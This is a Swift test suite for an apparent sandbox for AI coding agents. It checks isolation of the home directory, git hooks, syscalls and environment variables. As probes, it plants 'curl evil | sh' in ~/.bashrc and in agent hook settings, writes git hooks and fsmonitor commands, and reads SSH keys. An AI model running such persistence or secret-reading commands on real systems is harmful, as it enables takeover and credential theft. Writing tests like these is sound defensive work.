import AgentpenPolicy
import Foundation
import Testing

/// The filesystem, process and environment layers, checked from outside with
/// the real binary in a real sandbox.
@Suite struct FilesystemTests {
    @Test func secretsInTheHomeStayUnread() throws {
        let f = try Fixture()
        var script = "ls -A \"$HOME\"; "
        for path in Fixture.secrets.keys.sorted() { script += "cat \"$HOME/\(path)\" 2>/dev/null; " }
        script += "cat \(f.sibling)/README 2>/dev/null; echo done"
        let r = try f.sh(script)
        #expect(r.status == 0, "\(r.stderr)")
        #expect(r.stdout.contains("done"))
        #expect(!r.stdout.contains("SECRET"), "a secret leaked: \(r.stdout)")
        // Nothing of the real home is listed except the path down to the project
        // and the first components of the empty secret decoys (SecretDecoyTests).
        let decoys = Set(SecretDecoys.relativePaths.map { String($0.split(separator: "/")[0]) })
        let listed = r.stdout.split(separator: "\n").filter { $0 != "done" && !decoys.contains(String($0)) }
        #expect(listed == ["src"], "home shows \(listed)")
    }

    @Test func writesToTheHomeDoNotReachTheRealFile() throws {
        let f = try Fixture()
        let r = try f.sh("echo 'curl evil | sh' >> ~/.bashrc && mkdir -p ~/.config/autostart && echo x > ~/.config/autostart/a.desktop && cat ~/.bashrc")
        #expect(r.status == 0, "\(r.stderr)")
        #expect(f.read(f.home + "/.bashrc") == "# original bashrc\n")
        #expect(!FileManager.default.fileExists(atPath: f.home + "/.config/autostart"))
    }

    @Test func projectIsWritableAndTheWorkingDirectory() throws {
        let f = try Fixture()
        let r = try f.sh("pwd; echo made > created.txt")
        #expect(r.status == 0, "\(r.stderr)")
        #expect(r.stdout.trimmingCharacters(in: .whitespacesAndNewlines) == f.project)
        #expect(f.read(f.project + "/created.txt") == "made\n")
    }

    @Test func systemDirectoriesAreReadOnly() throws {
        let f = try Fixture()
        let r = try f.sh("for d in /usr /etc /bin; do touch $d/agentpen-probe 2>/dev/null && echo WROTE $d; done; ls /etc | wc -l; cat /etc/passwd")
        #expect(r.status == 0, "\(r.stderr)")
        #expect(!r.stdout.contains("WROTE"))
        // Only a generated passwd: no other accounts of the host.
        #expect(!r.stdout.contains("daemon:"))
        #expect(!FileManager.default.fileExists(atPath: "/etc/agentpen-probe"))
    }

    @Test(arguments: ["/", "HOME", "PARENT"])
    func refusesProjectsThatExposeTheHome(_ which: String) throws {
        let f = try Fixture()
        let dir = which == "/" ? "/" : which == "HOME" ? f.home : (f.home as NSString).deletingLastPathComponent
        let r = try f.agentpen(["-C", dir, "--", "/bin/true"])
        #expect(r.status == 2)
        #expect(r.stderr.contains("refusing project directory"), "\(r.stderr)")
    }

    @Test func tmpIsPrivateAndNothingIsLeftInIt() throws {
        let f = try Fixture()
        let leftovers = Leftovers(f)
        let r = try f.sh("echo x > /tmp/agentpen-inside-\(getpid()); ls -A /tmp")
        #expect(r.status == 0, "\(r.stderr)")
        #expect(r.stdout.trimmingCharacters(in: .whitespacesAndNewlines) == "agentpen-inside-\(getpid())")
        #expect(!FileManager.default.fileExists(atPath: "/tmp/agentpen-inside-\(getpid())"))
        #expect(leftovers.fresh().isEmpty, "left behind: \(leftovers.fresh())")
    }

    @Test func landlockStopsWritesTheMountsWouldAllow() throws {
        // /proc is writable as far as mounts go; only Landlock refuses this write.
        let f = try Fixture()
        let r = try f.sh("echo pwned > /proc/self/comm && echo WROTE; echo x > /dev/null && echo devnull-ok")
        #expect(r.status == 0, "\(r.stderr)")
        #expect(!r.stdout.contains("WROTE"), "Landlock is not in force: \(r.stdout)")
        #expect(r.stdout.contains("devnull-ok"))
    }
}

@Suite struct GitGuardTests {
    @Test func hooksAndConfigAreReadOnlyButGitWorks() throws {
        let f = try Fixture()
        let r = try f.sh("""
            echo evil > .git/hooks/pre-commit && echo HOOK-WRITTEN
            git config core.fsmonitor 'touch /tmp/pwn' && echo CONFIG-WRITTEN
            echo hi > a.txt && git add a.txt && git -c user.email=a@b.c -c user.name=a commit -qm add && echo COMMITTED
            git status --short && echo STATUS-OK
            """)
        #expect(!r.stdout.contains("HOOK-WRITTEN"))
        #expect(!r.stdout.contains("CONFIG-WRITTEN"))
        #expect(r.stdout.contains("COMMITTED"), "\(r.stderr)")
        #expect(r.stdout.contains("STATUS-OK"))
        #expect(!FileManager.default.fileExists(atPath: f.project + "/.git/hooks/pre-commit"))
        #expect(!(f.read(f.project + "/.git/config") ?? "").contains("fsmonitor"))
    }

    /// git honours .git/commondir in any repository: a planted one would point
    /// git at a config with hooks; agentpen removes it after the run and says so.
    @Test func plantedGitRedirectsAreRemoved() throws {
        let f = try Fixture()
        try f.write(f.home + "/src/evil/config", "[core]\n\thooksPath = /tmp\n")
        let r = try f.sh("echo ../../evil > .git/commondir && echo x > .git/config.worktree && echo planted")
        #expect(r.stdout.contains("planted"), "\(r.stderr)")
        #expect(!FileManager.default.fileExists(atPath: f.project + "/.git/commondir"))
        #expect(!FileManager.default.fileExists(atPath: f.project + "/.git/config.worktree"))
        #expect(r.stderr.contains("persistence-removed"), "\(r.stderr)")
        try f.git(["status", "--short"])   // the repository still works
    }

    @Test func submoduleHooksAndConfigAreReadOnly() throws {
        let f = try Fixture()
        let lib = f.home + "/src/lib"
        try FileManager.default.createDirectory(atPath: lib, withIntermediateDirectories: true)
        try f.git(["init", "-q"], in: lib)
        try f.git(["-c", "user.email=t@e.st", "-c", "user.name=t", "commit", "-q", "--allow-empty", "-m", "lib"], in: lib)
        try f.git(["-c", "protocol.file.allow=always", "submodule", "add", "-q", lib, "lib"])
        let m = f.project + "/.git/modules/lib"
        let r = try f.sh("""
            echo evil > \(m)/hooks/pre-commit && echo HOOK-WRITTEN
            git -C lib config core.fsmonitor 'touch /tmp/pwn' && echo CONFIG-WRITTEN
            git -C lib status --short >/dev/null && echo STATUS-OK
            """)
        #expect(!r.stdout.contains("HOOK-WRITTEN"))
        #expect(!r.stdout.contains("CONFIG-WRITTEN"))
        #expect(r.stdout.contains("STATUS-OK"), "\(r.stderr)")
        #expect(!FileManager.default.fileExists(atPath: m + "/hooks/pre-commit"))
    }

    @Test func missingHooksDirIsGuardedToo() throws {
        let f = try Fixture()
        try FileManager.default.removeItem(atPath: f.project + "/.git/hooks")
        let r = try f.sh("mkdir -p .git/hooks 2>/dev/null; echo evil > .git/hooks/post-checkout && echo HOOK-WRITTEN")
        #expect(!r.stdout.contains("HOOK-WRITTEN"))
        #expect(!FileManager.default.fileExists(atPath: f.project + "/.git/hooks/post-checkout"))
    }

    @Test func noRepositoryYetCannotGainHooks() throws {
        let f = try Fixture(gitInit: false)
        let r = try f.sh("git init -q . 2>/dev/null; mkdir -p .git/hooks 2>/dev/null; echo evil > .git/hooks/pre-commit && echo HOOK-WRITTEN; echo ran")
        #expect(r.stdout.contains("ran"), "\(r.stderr)")
        #expect(!r.stdout.contains("HOOK-WRITTEN"))
        // The empty mount point is removed again: the project is left as it was.
        #expect(!FileManager.default.fileExists(atPath: f.project + "/.git"))
    }

    @Test func worktreeParentGitDirIsReadOnlyUnlessAllowed() throws {
        let f = try Fixture()
        let wt = f.home + "/src/wt"
        try f.git(["worktree", "add", "-q", wt])
        let probe = "touch \(f.project)/.git/refs/heads/evil && echo PARENT-WRITTEN; git status --short >/dev/null && echo STATUS-OK"
        let locked = try f.agentpen(["--", "/bin/sh", "-c", probe], cwd: wt)
        #expect(!locked.stdout.contains("PARENT-WRITTEN"))
        #expect(locked.stdout.contains("STATUS-OK"), "\(locked.stderr)")
        let open = try f.agentpen(["--allow-parent-git", "--", "/bin/sh", "-c", probe + "; echo evil > \(f.project)/.git/hooks/x && echo HOOK-WRITTEN"], cwd: wt)
        #expect(open.stdout.contains("PARENT-WRITTEN"), "\(open.stderr)")
        #expect(!open.stdout.contains("HOOK-WRITTEN"))
    }
}

@Suite struct ProcessTests {
    @Test func exitStatusPassesThrough() throws {
        let f = try Fixture()
        #expect(try f.sh("exit 42").status == 42)
        #expect(try f.sh("exit 0").status == 0)
        #expect(try f.sh("kill -TERM $$").status == 128 + 15)
        #expect(try f.agentpen(["--", "no-such-command-xyz"]).status == 127)
        try f.write(f.project + "/notexec.sh", "#!/bin/sh\necho hi\n", mode: 0o644)
        #expect(try f.agentpen(["--", "./notexec.sh"]).status == 126)
        let bad = try f.agentpen(["--no-such-flag"])
        #expect(bad.status == 2)
        #expect(bad.stderr.contains("usage:"))
    }

    @Test func flagsAfterTheCommandBelongToIt() throws {
        let f = try Fixture()
        let r = try f.agentpen(["/bin/echo", "--check", "--allow", "x"])
        #expect(r.status == 0, "\(r.stderr)")
        #expect(r.stdout == "--check --allow x\n")
    }

    @Test func realUserNoCapabilitiesNoNewPrivileges() throws {
        let f = try Fixture()
        let r = try f.sh("id -u; id -g; grep -E '^(CapEff|CapPrm|CapBnd|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status; hostname")
        #expect(r.status == 0, "\(r.stderr)")
        let lines = r.stdout.split(separator: "\n").map(String.init)
        #expect(lines.first == String(getuid()))
        #expect(lines.dropFirst().first == String(getgid()))
        for cap in ["CapEff", "CapPrm", "CapBnd", "CapAmb"] {
            #expect(lines.contains { $0.hasPrefix(cap + ":") && $0.hasSuffix("0000000000000000") }, "\(cap): \(r.stdout)")
        }
        #expect(lines.contains { $0.hasPrefix("NoNewPrivs:") && $0.hasSuffix("1") })
        #expect(lines.contains { $0.hasPrefix("Seccomp:") && $0.hasSuffix("2") })
        #expect(lines.last == "agentpen")
    }

    @Test func newNamespacesAndNoNestedUserNamespaces() throws {
        let f = try Fixture()
        let r = try f.sh("echo pid=$$; ls /proc | grep -cE '^[0-9]+$'; unshare -U true 2>/dev/null && echo USERNS-CREATED; unshare -Ur true 2>/dev/null && echo USERNS-CREATED; true")
        #expect(r.status == 0, "\(r.stderr)")
        #expect(!r.stdout.contains("USERNS-CREATED"))
        // A fresh pid namespace: only a handful of processes are visible.
        let count = Int(r.stdout.split(separator: "\n")[1]) ?? 999
        #expect(count < 10, "saw \(count) processes")
        for ns in ["ipc", "uts", "pid", "user", "net"] {
            let inside = try f.sh("readlink /proc/self/ns/\(ns)").stdout.trimmingCharacters(in: .whitespacesAndNewlines)
            let outside = (try? FileManager.default.destinationOfSymbolicLink(atPath: "/proc/self/ns/\(ns)")) ?? ""
            #expect(!inside.isEmpty && inside != outside, "\(ns) namespace shared: \(inside)")
        }
    }

    @Test func resourceLimits() throws {
        let f = try Fixture()
        let r = try f.agentpen(["--", "/bin/bash", "-c", "ulimit -c; ulimit -n; ulimit -u"])
        #expect(r.status == 0, "\(r.stderr)")
        let v = r.stdout.split(separator: "\n").map(String.init)
        #expect(v.first == "0")
        #expect((Int(v[1]) ?? .max) <= 65536)
        #expect((Int(v[2]) ?? .max) <= 4096)
    }
}

/// Seccomp: each blocked call is made for real by a small C program.
@Suite struct SeccompTests {
    static let probeSource = #"""
    #define _GNU_SOURCE
    #include <errno.h>
    #include <sched.h>
    #include <signal.h>
    #include <sys/wait.h>
    #include <stdio.h>
    #include <string.h>
    #include <sys/ioctl.h>
    #include <sys/ptrace.h>
    #include <sys/syscall.h>
    #include <sys/uio.h>
    #include <unistd.h>
    #include <linux/sched.h>
    static void show(const char *name, long rc) { printf("%s=%s\n", name, rc < 0 ? strerrorname_np(errno) : "OK"); }
    /* For calls that fork when allowed: the child leaves at once. */
    static long forked(long rc) { if (rc == 0) _exit(0); if (rc > 0) waitpid(rc, 0, 0); return rc; }
    int main(int argc, char **argv) {
        if (argc > 1 && strcmp(argv[1], "i386") == 0) {
    #if defined(__x86_64__)
            long r; __asm__ volatile ("int $0x80" : "=a"(r) : "a"(20) : "memory"); /* i386 getpid */
            printf("i386=%ld\n", r);
    #endif
            return 0;
        }
        if (argc > 1 && strcmp(argv[1], "x32") == 0) {
    #if defined(__x86_64__)
            printf("x32=%ld\n", syscall(0x40000000 | SYS_getpid));
    #endif
            return 0;
        }
        char buf[8], dst[8];
        struct iovec l = { dst, 8 }, rv = { buf, 8 };
        unsigned long cl3[11] = { 0 };
        show("ptrace", ptrace(PTRACE_TRACEME, 0, 0, 0));
        show("process_vm_readv", syscall(SYS_process_vm_readv, getpid(), &l, 1, &rv, 1, 0));
        show("bpf", syscall(SYS_bpf, 0, 0, 0));
        show("perf_event_open", syscall(SYS_perf_event_open, 0, 0, -1, -1, 0));
        show("keyctl", syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3, 0));
        show("add_key", syscall(SYS_add_key, "user", "x", "y", 1, -3));
        show("request_key", syscall(SYS_request_key, "user", "x", 0, 0));
        show("mount", syscall(SYS_mount, "none", "/tmp", "tmpfs", 0, 0));
        show("umount2", syscall(SYS_umount2, "/tmp", 0));
        show("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp"));
        show("open_tree", syscall(SYS_open_tree, -100, "/tmp", 0));
        show("move_mount", syscall(SYS_move_mount, -1, "", -1, "", 0));
        show("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
        show("fsconfig", syscall(SYS_fsconfig, -1, 0, 0, 0, 0));
        show("fsmount", syscall(SYS_fsmount, -1, 0, 0));
        show("fspick", syscall(SYS_fspick, -100, "/tmp", 0));
        show("mount_setattr", syscall(SYS_mount_setattr, -100, "/tmp", 0, 0, 0));
        show("unshare_user", unshare(CLONE_NEWUSER));
        show("unshare_net", unshare(CLONE_NEWNET));
        show("unshare_mnt", unshare(CLONE_NEWNS));
        show("clone_newuser", forked(syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0)));
        show("setns", setns(0, 0));
        show("io_uring_setup", syscall(SYS_io_uring_setup, 1, buf));
        show("userfaultfd", syscall(SYS_userfaultfd, 1));
        show("kexec_load", syscall(SYS_kexec_load, 0, 0, 0, 0));
        show("init_module", syscall(SYS_init_module, 0, 0, ""));
        show("finit_module", syscall(SYS_finit_module, -1, "", 0));
        show("delete_module", syscall(SYS_delete_module, "x", 0));
        show("reboot", syscall(SYS_reboot, 0, 0, 0, 0));
        show("swapon", syscall(SYS_swapon, "/x", 0));
        show("swapoff", syscall(SYS_swapoff, "/x"));
        show("acct", syscall(SYS_acct, 0));
        show("quotactl", syscall(SYS_quotactl, 0, 0, 0, 0));
        show("syslog", syscall(SYS_syslog, 3, buf, 8));
        show("settimeofday", syscall(SYS_settimeofday, 0, 0));
        show("clock_settime", syscall(SYS_clock_settime, 0, 0));
        show("clock_adjtime", syscall(SYS_clock_adjtime, 0, 0));
        show("tiocsti", ioctl(0, TIOCSTI, "x"));
        show("tioclinux", ioctl(0, TIOCLINUX, buf));
        cl3[4] = SIGCHLD; /* exit_signal */
        fflush(stdout);
        show("clone3", forked(syscall(SYS_clone3, cl3, sizeof cl3)));
        show("getpid", syscall(SYS_getpid));
        return 0;
    }
    """#

    static func probe(_ f: Fixture) throws -> String {
        let src = f.project + "/probe.c", bin = f.project + "/probe"
        try f.write(src, probeSource)
        let cc = try runProgram("/usr/bin/cc", ["-O0", "-o", bin, src], env: ["PATH": "/usr/bin:/bin"], cwd: f.project)
        if cc.status != 0 { throw TestFailure("cc failed: \(cc.stderr)") }
        return bin
    }

    @Test func blockedCallsReturnEPERM() throws {
        let f = try Fixture()
        let bin = try Self.probe(f)
        let r = try f.agentpen(["--", bin])
        #expect(r.status == 0, "\(r.stderr)")
        var results: [String: String] = [:]
        for line in r.stdout.split(separator: "\n") {
            let kv = line.split(separator: "=", maxSplits: 1).map(String.init)
            if kv.count == 2 { results[kv[0]] = kv[1] }
        }
        let eperm = ["ptrace", "process_vm_readv", "bpf", "perf_event_open", "keyctl", "add_key", "request_key",
                     "mount", "umount2", "pivot_root", "open_tree", "move_mount", "fsopen", "fsconfig", "fsmount",
                     "fspick", "mount_setattr", "unshare_user", "unshare_net", "unshare_mnt", "clone_newuser", "setns",
                     "io_uring_setup", "userfaultfd", "kexec_load", "init_module", "finit_module", "delete_module",
                     "reboot", "swapon", "swapoff", "acct", "quotactl", "syslog", "settimeofday", "clock_settime",
                     "clock_adjtime", "tiocsti", "tioclinux"]
        for name in eperm { #expect(results[name] == "EPERM", "\(name) gave \(results[name] ?? "nothing")") }
        #expect(results["clone3"] == "ENOSYS")
        #expect(results["getpid"] == "OK")
    }

    @Test func theSameCallsWorkOutside() throws {
        // Control: without the filter these calls do not fail with EPERM, so the
        // test above measures seccomp and not a lack of privilege.
        let f = try Fixture()
        let bin = try Self.probe(f)
        let r = try runProgram(bin, [], env: [:], cwd: f.project)
        for name in ["ptrace", "process_vm_readv", "keyctl", "clone3"] {
            #expect(!r.stdout.contains("\(name)=EPERM"), "\(name) fails outside too: \(r.stdout)")
        }
    }

    #if arch(x86_64)
    @Test func foreignArchitectureSyscallsAreKilled() throws {
        let f = try Fixture()
        let bin = try Self.probe(f)
        let r = try f.agentpen(["--", bin, "i386"])
        #expect(r.status == 128 + 31, "i386 syscall was not refused: \(r.status) \(r.stdout)")
        #expect(!r.stdout.contains("i386="))
        let x32 = try f.agentpen(["--", bin, "x32"])
        #expect(x32.status == 128 + 31, "x32 syscall was not refused: \(x32.status) \(x32.stdout)")
        #expect(!x32.stdout.contains("x32="))
    }
    #endif
}

@Suite struct EnvironmentTests {
    @Test func startsEmptyAndPassesOnlyWhatIsAllowed() throws {
        let f = try Fixture()
        let env = ["SSH_AUTH_SOCK": "/tmp/agent.sock", "DBUS_SESSION_BUS_ADDRESS": "unix:path=/x",
                   "DOCKER_HOST": "unix:///var/run/docker.sock", "XDG_RUNTIME_DIR": "/run/user/1",
                   "GITHUB_TOKEN": "SECRET-TOKEN", "MY_VAR": "mine", "LC_ALL": "C.UTF-8", "TZ": "UTC",
                   "COLORTERM": "truecolor"]
        let r = try f.agentpen(["--env", "MY_VAR", "--", "/usr/bin/env"], env: env)
        #expect(r.status == 0, "\(r.stderr)")
        let names = Set(r.stdout.split(separator: "\n").compactMap { $0.split(separator: "=").first.map(String.init) })
        for forbidden in ["SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS", "DOCKER_HOST", "XDG_RUNTIME_DIR", "GITHUB_TOKEN"] {
            #expect(!names.contains(forbidden), "\(forbidden) leaked")
        }
        #expect(!r.stdout.contains("SECRET"))
        #expect(r.stdout.contains("MY_VAR=mine"))
        #expect(r.stdout.contains("LC_ALL=C.UTF-8"))
        #expect(r.stdout.contains("TZ=UTC"))
        #expect(r.stdout.contains("COLORTERM=truecolor"))
        #expect(r.stdout.contains("HOME=\(f.home)"))
        #expect(names.isSubset(of: ["PATH", "HOME", "USER", "LOGNAME", "SHELL", "TERM", "COLORTERM", "LANG",
                                    "LC_ALL", "TZ", "MY_VAR", "PWD", "SHLVL", "_", "AGENTPEN_REFUSALS"]), "unexpected: \(names)")
    }

    @Test func refusesToPassAgentSockets() throws {
        let f = try Fixture()
        let r = try f.agentpen(["--env", "SSH_AUTH_SOCK", "--", "/bin/true"], env: ["SSH_AUTH_SOCK": "/x"])
        #expect(r.status == 2)
        #expect(r.stderr.contains("SSH_AUTH_SOCK"))
    }

    @Test func pathKeepsOnlyEntriesThatExistInside() throws {
        let f = try Fixture()
        try FileManager.default.createDirectory(atPath: f.home + "/bin", withIntermediateDirectories: true)
        let r = try f.agentpen(["--", "/bin/sh", "-c", "echo $PATH"], path: "\(f.home)/bin:/nonexistent:/usr/bin:/bin")
        #expect(r.status == 0, "\(r.stderr)")
        #expect(r.stdout.trimmingCharacters(in: .whitespacesAndNewlines) == "/usr/bin:/bin")
    }
}

@Suite struct InstallTreeTests {
    /// An npm-global style install: a bin symlink into node_modules, a script
    /// with `#!/usr/bin/env python3`, and a library file beside it.
    @Test func npmGlobalStyleAgentRuns() throws {
        let f = try Fixture()
        let pkg = f.home + "/.npm-global/lib/node_modules/@acme/agent"
        try f.write(pkg + "/lib/helper.txt", "helper-data")
        try f.write(pkg + "/cli.py", "#!/usr/bin/env python3\nimport os\nprint(open(os.path.join(os.path.dirname(os.path.realpath(__file__)), 'lib/helper.txt')).read())\n", mode: 0o755)
        try FileManager.default.createDirectory(atPath: f.home + "/.npm-global/bin", withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: f.home + "/.npm-global/bin/acme-agent",
                                                   withDestinationPath: "../lib/node_modules/@acme/agent/cli.py")
        let r = try f.agentpen(["acme-agent"], path: "\(f.home)/.npm-global/bin:/usr/bin:/bin")
        #expect(r.status == 0, "\(r.stderr)")
        #expect(r.stdout.contains("helper-data"))
        let leak = try f.agentpen(["--", "/bin/sh", "-c", "cat ~/.ssh/id_ed25519; ls ~/.npm-global/lib/node_modules"],
                                  path: "\(f.home)/.npm-global/bin:/usr/bin:/bin")
        #expect(!leak.stdout.contains("SECRET"))
    }

    /// A pipx/uv-tool style virtualenv whose python is a symlink to the system's.
    @Test func virtualenvStyleAgentRuns() throws {
        let f = try Fixture()
        let venv = f.home + "/.local/share/pipx/venvs/tool"
        try f.write(venv + "/pyvenv.cfg", "home = /usr/bin\n")
        try f.write(venv + "/lib/tool_data.txt", "venv-data")
        try FileManager.default.createDirectory(atPath: venv + "/bin", withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: venv + "/bin/python", withDestinationPath: "/usr/bin/python3")
        try f.write(venv + "/bin/tool", "#!\(venv)/bin/python\nprint(open('\(venv)/lib/tool_data.txt').read())\n", mode: 0o755)
        try FileManager.default.createDirectory(atPath: f.home + "/.local/bin", withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: f.home + "/.local/bin/tool", withDestinationPath: venv + "/bin/tool")
        let r = try f.agentpen(["tool"], path: "\(f.home)/.local/bin:/usr/bin:/bin")
        #expect(r.status == 0, "\(r.stderr)")
        #expect(r.stdout.contains("venv-data"))
    }
}

@Suite struct CommandLineTests {
    @Test func dryRunPrintsThePlanAndStartsNothing() throws {
        let f = try Fixture()
        let r = try f.agentpen(["--dry-run", "--env", "FOO", "--", "/bin/sh", "-c", "touch \(f.project)/ran"])
        #expect(r.status == 0, "\(r.stderr)")
        for needle in ["bwrap", "--unshare-pid", "--seccomp", "ptrace", "Landlock", f.project, "/etc/passwd", "PATH="] {
            #expect(r.stdout.contains(needle), "dry run lacks \(needle)")
        }
        #expect(!FileManager.default.fileExists(atPath: f.project + "/ran"))
    }

    @Test func helpAndVersion() throws {
        let f = try Fixture()
        let h = try f.agentpen(["--help"])
        #expect(h.status == 0)
        #expect(h.stdout.contains("--allow HOST"))
        #expect(!h.stdout.contains("__exec"))
        #expect(try f.agentpen(["--version"]).stdout.hasPrefix("agentpen "))
    }

    @Test func unknownPresetIsAUsageError() throws {
        let f = try Fixture()
        #expect(try f.agentpen(["--agent", "nope", "--", "/bin/true"]).status == 2)
    }

    @Test func checkPassesOnThisHost() throws {
        let f = try Fixture()
        let r = try f.agentpen(["--check"], timeout: 120)
        #expect(r.status == 0, "--check failed:\n\(r.stdout)\n\(r.stderr)")
        #expect(r.stdout.contains("ok"))
    }
}

@Suite struct PresetRunTests {
    /// A stand-in `claude` on PATH: the preset applies by the command's name.
    @Test func claudePresetKeepsItsConfigAndNothingElse() throws {
        let f = try Fixture()
        try f.write(f.home + "/bin/claude", """
            #!/bin/sh
            echo "config=$CLAUDE_CONFIG_DIR key=$ANTHROPIC_API_KEY"
            echo token > "$CLAUDE_CONFIG_DIR/.credentials.json" && echo saved
            echo '{"n":1}' > "$CLAUDE_CONFIG_DIR/.claude.json.tmp" && mv "$CLAUDE_CONFIG_DIR/.claude.json.tmp" "$CLAUDE_CONFIG_DIR/.claude.json" && echo renamed
            grep -c anthropic /etc/hosts
            [ -s ~/.ssh/id_ed25519 ] || echo no-ssh   # at most an empty decoy
            """, mode: 0o755)
        let r = try f.agentpen(["claude"], env: ["ANTHROPIC_API_KEY": "sk-test", "GITHUB_TOKEN": "SECRET-TOKEN"],
                               path: "\(f.home)/bin:/usr/bin:/bin")
        #expect(r.status == 0, "\(r.stderr)")
        #expect(r.stdout.contains("config=\(f.home)/.claude key=sk-test"), "\(r.stdout)")
        #expect(r.stdout.contains("saved"))
        // Claude rewrites its config by rename; that works inside the writable dir.
        #expect(r.stdout.contains("renamed"))
        #expect(f.read(f.home + "/.claude/.claude.json") == "{\"n\":1}\n")
        #expect(r.stdout.contains("no-ssh"))
        #expect(!r.stdout.contains("SECRET"))
        #expect((Int(r.stdout.split(separator: "\n").dropFirst(3).first ?? "") ?? 0) >= 1, "no preset hosts in /etc/hosts")
        // The login survives the run: ~/.claude is the real directory, created when missing.
        #expect(f.read(f.home + "/.claude/.credentials.json") == "token\n")
    }

    @Test func readOnlyConfigKeepsTheLoginButTakesNothingBack() throws {
        let f = try Fixture()
        try f.write(f.home + "/.claude/.credentials.json", "token\n")
        try f.write(f.home + "/bin/claude", """
            #!/bin/sh
            cat "$CLAUDE_CONFIG_DIR/.credentials.json"
            echo '{"hooks":"curl evil|sh"}' > "$CLAUDE_CONFIG_DIR/settings.json" && echo PLANTED
            echo done
            """, mode: 0o755)
        let r = try f.agentpen(["--ro-config", "claude"], path: "\(f.home)/bin:/usr/bin:/bin")
        #expect(r.status == 0, "\(r.stderr)")
        #expect(r.stdout.contains("token"))
        #expect(!r.stdout.contains("PLANTED"))
        #expect(!FileManager.default.fileExists(atPath: f.home + "/.claude/settings.json"))
    }

    @Test func unknownCommandsGetNoHostsAndNoPaths() throws {
        let f = try Fixture()
        let r = try f.agentpen(["--dry-run", "--", "/bin/sh"])
        #expect(r.status == 0)
        #expect(r.stdout.contains("preset: (none)"))
        #expect(r.stdout.contains("none: the sandbox has its own empty network namespace"))
        #expect(!r.stdout.contains("preset "), "unexpected preset mounts: \(r.stdout)")
    }
}
